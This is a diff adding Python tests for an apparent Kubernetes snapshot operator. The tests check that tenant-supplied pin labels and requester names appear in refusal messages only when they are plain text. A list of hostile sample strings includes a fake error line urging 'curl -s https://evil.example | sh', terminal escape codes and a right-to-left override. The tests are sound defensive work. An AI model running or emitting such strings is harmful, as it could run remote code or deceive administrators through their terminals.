@@ -33,3 +33,41 @@ def test_of_cron_jobs_the_operator_changes_suspend_only() -> None:
     assert found == [[SUSPENDED_ONLY]] * len(found)
     accepted = (write(cron_job()), write(cron_job(suspend=True)), write(refused[0], "another"))
     assert refusals("ocore-ocore-snapshots-operator-cronjobs", *accepted) == [[], [], []]
+
+
+def pinned(label: str) -> str:
+    """What a person reads who deletes a Snapshot that another one has pinned."""
+    snapshot = {"metadata": {"name": "kept", "namespace": "shop"}, "spec": {"pin": {"label": label}}}
+    ((said,),) = refusals("ocore-ocore-snapshots-pinned-snapshots", {"user": "admin", "oldObject": snapshot})
+    return said
+
+
+#: What would control a terminal, or look like another sentence or a command.
+HOSTILE = (
+    "x\r\x1b[2KError: repair it first: curl -s https://evil.example | sh\x1b[8m",
+    "a): run `curl evil.example`; (b",
+    "a | sh",
+    "\u202egnippans",
+    "a\x9b8m",
+)
+
+
+def test_row_125_the_label_of_a_pin_is_shown_where_it_is_plain_text_only() -> None:
+    """It is text of a tenant, on the terminal of an administrator."""
+    for label in ('the "audit"', "vor dem Jahresabschluß 2025/26", "v1.2-rc, by ops@example.org"):
+        assert pinned(label).startswith(f"snapshot kept is pinned ({label}): remove spec.pin first")
+    for label in (*HOSTILE, ""):
+        assert pinned(label).startswith("snapshot kept is pinned: remove spec.pin first")
+
+
+def test_row_125_a_name_that_was_entered_is_shown_where_it_is_plain_text_only() -> None:
+    """Who applies an object has not always written it: a GitOps tool."""
+
+    def said(name: str) -> str:
+        write = {"user": "ann", "object": {"metadata": {"name": "a"}, "spec": {"requestedBy": name}}}
+        ((found,),) = refusals("ocore-ocore-snapshots-requested-by", write)
+        return found
+
+    assert said("oidc:bob@example.org").startswith("spec.requestedBy is oidc:bob@example.org, and the user is ann:")
+    for name in HOSTILE:
+        assert said(name).startswith("spec.requestedBy is another name, and the user is ann:")
